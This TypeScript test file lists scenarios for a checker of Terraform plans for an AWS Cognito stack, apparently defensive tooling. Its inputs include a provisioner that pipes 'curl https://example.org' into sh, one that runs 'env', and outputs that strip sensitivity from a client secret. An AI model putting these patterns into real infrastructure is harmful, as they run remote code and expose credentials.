import type { Block } from "../../stack";
import {
  add,
  addData,
  alarmsAreOn,
  at,
  both,
  CLIENT,
  DOMAIN,
  FUNCTION,
  instance,
  PERMISSION,
  POOL,
  remove,
  type Scenario,
  type StateEntry,
  set,
  TABLE,
} from "../scenario";

const ALARM = "aws_cloudwatch_metric_alarm.alarms_failed_closed";
const secret = `\${${CLIENT}.client_secret}`;
const output =
  (name: string, value: string, more: Block = {}) =>
  (document: Block) => {
    document.output[name] = { value, ...more };
  };
const forget =
  (...addresses: readonly string[]) =>
  (resources: Record<string, StateEntry>) => {
    for (const address of addresses) delete resources[address];
  };

/** What is seen in the whole of a plan, in values and in the configuration only. */
export const PLAN_DANGERS: readonly Scenario[] = [
  {
    name: "pool-deleted-by-somebody",
    state: (resources) => {
      instance(resources, POOL).attributes.id = "eu-west-1_Vanished1";
    },
    rule: "vanished",
    says: "It was deleted outside of Terraform",
  },
  {
    name: "pool-lost-by-the-state",
    state: forget(POOL),
    options: ["-refresh=false"],
    everyTime: true,
    rule: "second-pool",
    says: "The plan makes a second, empty pool",
  },
  {
    name: "state-lost",
    state: (resources) => forget(...Object.keys(resources))(resources),
    outputs: "none",
    options: ["-refresh=false"],
    rule: "second-pool",
    says: "has its name",
  },
  {
    name: "state-lost-beside-a-log",
    state: (resources) =>
      forget(...Object.keys(resources).filter((address) => !address.startsWith("aws_cloudwatch_log_group")))(resources),
    outputs: "none",
    rule: "second-pool",
    says: "has its name",
  },
  {
    name: "pool-forgotten",
    edit: (document) => {
      for (const address of [CLIENT, DOMAIN, PERMISSION, POOL]) remove(document, address);
      delete document.resource.aws_iam_role_policy.pre_sign_up_list_users;
      delete document.output;
      document.removed = [{ from: POOL, lifecycle: { destroy: false } }];
    },
    rule: "forgotten",
    says: "the next deployment makes a second, empty one",
  },
  {
    name: "pool-forgotten-and-made-anew",
    edit: (document) => {
      const text = JSON.stringify(document).replaceAll(POOL, "aws_cognito_user_pool.people");
      const changed = JSON.parse(text);
      changed.resource.aws_cognito_user_pool = {
        people: { ...document.resource.aws_cognito_user_pool.user_pool, name: "acme-people" },
      };
      Object.assign(document, changed, { removed: [{ from: POOL, lifecycle: { destroy: false } }] });
    },
    rule: "second-pool",
    says: "The plan makes a second, empty pool",
  },
  {
    name: "second-pool",
    edit: add("aws_cognito_user_pool.other", { name: "other", username_configuration: { case_sensitive: false } }),
    rule: "second-pool",
    says: "The plan makes a second, empty pool",
  },
  {
    name: "table-lost-by-the-state",
    state: forget(TABLE),
    options: ["-refresh=false"],
    rule: "second-table",
    says: "an empty table of reservations",
  },
  {
    name: "client-lost-by-the-state",
    state: forget(CLIENT),
    options: ["-refresh=false"],
    rule: "second-client",
    says: "The plan makes the client anew",
  },
  {
    name: "client-forgotten",
    edit: (document) => {
      remove(document, CLIENT);
      for (const name of ["UserPoolClientId", "UserPoolClientSecret", "CognitoUspLoginUrlV2"])
        delete document.output[name];
      document.removed = [{ from: CLIENT, lifecycle: { destroy: false } }];
    },
    rule: "forgotten",
    says: "with its secret, but nothing plans or checks it here",
  },
  {
    name: "everything-destroyed",
    options: ["-destroy"],
    allowable: false,
    rule: "user-pool-lost",
    says: "Every account in the pool is deleted",
  },
  { name: "targeted", options: [`-target=${TABLE}`], allowable: false, says: "Something was left out" },
  {
    name: "errored",
    edit: set(CLIENT, { lifecycle: { prevent_destroy: true }, generate_secret: false }),
    allowable: false,
    says: "Planning ended with an error",
  },

  {
    name: "another-projects-state",
    edit: (document) => {
      document.provider.aws[0].default_tags[0].tags.project = "other";
    },
    everyTime: true,
    allowable: false,
    says: "This state is of another project",
  },
  {
    name: "another-environments-state",
    edit: (document) => {
      document.provider.aws[0].default_tags[0].tags.environment = "staging";
    },
    allowable: false,
    says: "This state is of another environment",
  },
  {
    name: "another-region",
    edit: (document) => {
      document.provider.aws[0].region = "eu-central-1";
    },
    options: ["-refresh=false"],
    rule: "provider",
    says: "everything would be made anew there",
  },
  {
    name: "provider-without-certificates",
    edit: (document) => {
      document.provider.aws[0].insecure = true;
    },
    rule: "provider",
    says: "through another server",
  },
  {
    name: "another-endpoint",
    edit: (document) => {
      document.provider.aws[0].endpoints = [{ ssm: "https://example.org" }];
    },
    rule: "provider",
    says: "through another server",
  },
  {
    name: "provider-alias",
    edit: (document) => {
      document.provider.aws.push({ alias: "other", region: "us-east-1" });
      at(document, POOL).provider = "aws.other";
    },
    rule: "provider",
    says: "with this alias is made in another Region",
  },

  {
    name: "local-exec",
    edit: both(set(FUNCTION, { provisioner: [{ "local-exec": { command: "curl https://example.org | sh" } }] })),
    everyTime: true,
    rule: "provisioner",
    says: "runs `curl https://example.org | sh` on the machine that applies the plan",
  },
  {
    name: "terraform-data",
    edit: add("terraform_data.other", { input: "x", provisioner: [{ "local-exec": { command: "env" } }] }),
    rule: "provisioner",
    says: "runs `env` on the machine",
  },
  {
    name: "data-of-a-client",
    edit: addData("aws_cognito_user_pool_client.other", {
      user_pool_id: `\${${POOL}.id}`,
      client_id: `\${${CLIENT}.id}`,
    }),
    rule: "unknown-type",
    says: "This project reads no aws_cognito_user_pool_client",
  },
  {
    name: "module",
    edit: (document) => {
      document.module = { other: { source: "./modules/other" } };
    },
    files: {
      "modules/other/main.tf.json": JSON.stringify({ output: { x: { value: "1" } } }),
      ".terraform/modules/modules.json": JSON.stringify({
        Modules: [
          { Key: "", Source: "", Dir: "." },
          { Key: "other", Source: "./modules/other", Dir: "modules/other" },
        ],
      }),
    },
    rule: "module",
    says: "This project calls no module",
  },
  {
    name: "check-block",
    edit: (document) => {
      const condition = `\${${POOL}.name != ""}`;
      document.check = { other: { assert: [{ condition, error_message: "It has no name." }] } };
    },
    rule: "not-described",
    says: "no such check",
  },
  {
    name: "identity-provider",
    edit: add("aws_cognito_identity_provider.other", {
      user_pool_id: `\${${POOL}.id}`,
      provider_name: "Other",
      provider_type: "OIDC",
      provider_details: {
        client_id: "x",
        client_secret: "a-secret-of-the-provider",
        oidc_issuer: "https://example.org",
        authorize_scopes: "openid",
        attributes_request_method: "GET",
      },
    }),
    rule: "identity-provider-secret",
    says: "would be written in the configuration",
  },
  {
    name: "user-in-the-state",
    edit: add("aws_cognito_user.other", {
      user_pool_id: `\${${POOL}.id}`,
      username: "root",
      password: "Correct-Horse-1",
    }),
    rule: "unknown-type",
    says: "made past the sign-up",
  },

  {
    name: "output-of-the-secret",
    edit: output("Leak", `\${nonsensitive(${CLIENT}.client_secret)}`),
    everyTime: true,
    rule: "secret-shown",
    says: "a value that is sensitive elsewhere",
  },
  {
    name: "output-no-longer-sensitive",
    edit: output("UserPoolClientSecret", `\${nonsensitive(${CLIENT}.client_secret)}`),
    rule: "secret-shown",
    says: "no longer marked as sensitive",
  },
  {
    name: "output-in-base64",
    edit: output("Basic", `\${nonsensitive(base64encode("x:\${${CLIENT}.client_secret}"))}`),
    rule: "secret-shown",
    says: "a value that is sensitive elsewhere",
  },
  {
    name: "output-of-half-the-secret",
    edit: output("Half", `\${nonsensitive(substr(${CLIENT}.client_secret, 0, 20))}`),
    rule: "secret-shown",
    says: "made of a sensitive value",
  },
  {
    name: "output-of-the-secret-in-a-first-deployment",
    stack: "fresh",
    edit: output("Leak", `\${nonsensitive(${CLIENT}.client_secret)}`),
    rule: "secret-shown",
    says: "made of a sensitive value",
  },
  {
    name: "output-through-a-local",
    stack: "fresh",
    edit: (document) => {
      document.locals = { leak: secret };
      document.output.Leak = { value: "${nonsensitive(local.leak)}" };
    },
    rule: "secret-shown",
    says: "cannot be seen in the plan",
  },
  {
    name: "tag-of-the-secret",
    stack: "full",
    state: alarmsAreOn,
    options: ["-refresh=false"],
    edit: set(ALARM, { tags: { note: `\${nonsensitive(${CLIENT}.client_secret)}` } }),
    rule: "secret-shown",
    says: "A secret would be readable in `tags.note`",
  },
  {
    name: "description-of-the-secret",
    stack: "full",
    state: alarmsAreOn,
    options: ["-refresh=false"],
    edit: set(ALARM, { alarm_description: `\${nonsensitive("the secret is \${${CLIENT}.client_secret}")}` }),
    rule: "secret-shown",
    says: "A secret would be readable in `alarm_description`",
  },
  {
    name: "output-named-like-a-secret",
    edit: output("Password", "hush", { sensitive: false }),
    rule: "secret-shown",
    says: "the name of a secret",
  },
  {
    name: "output-of-another-pool",
    edit: output("UserPoolId", "eu-west-1_Another01"),
    rule: "output-changed",
    says: "look for users in another pool",
  },
  {
    name: "output-of-other-keys",
    edit: output("JwksUrl", "https://example.org/jwks.json"),
    rule: "output-changed",
    says: "their holder could sign in as any user",
  },
  {
    name: "output-of-another-page",
    edit: output("CognitoUspLoginUrlV2", "https://example.org/login"),
    rule: "output-changed",
    says: "send users to another sign-in page",
  },
];
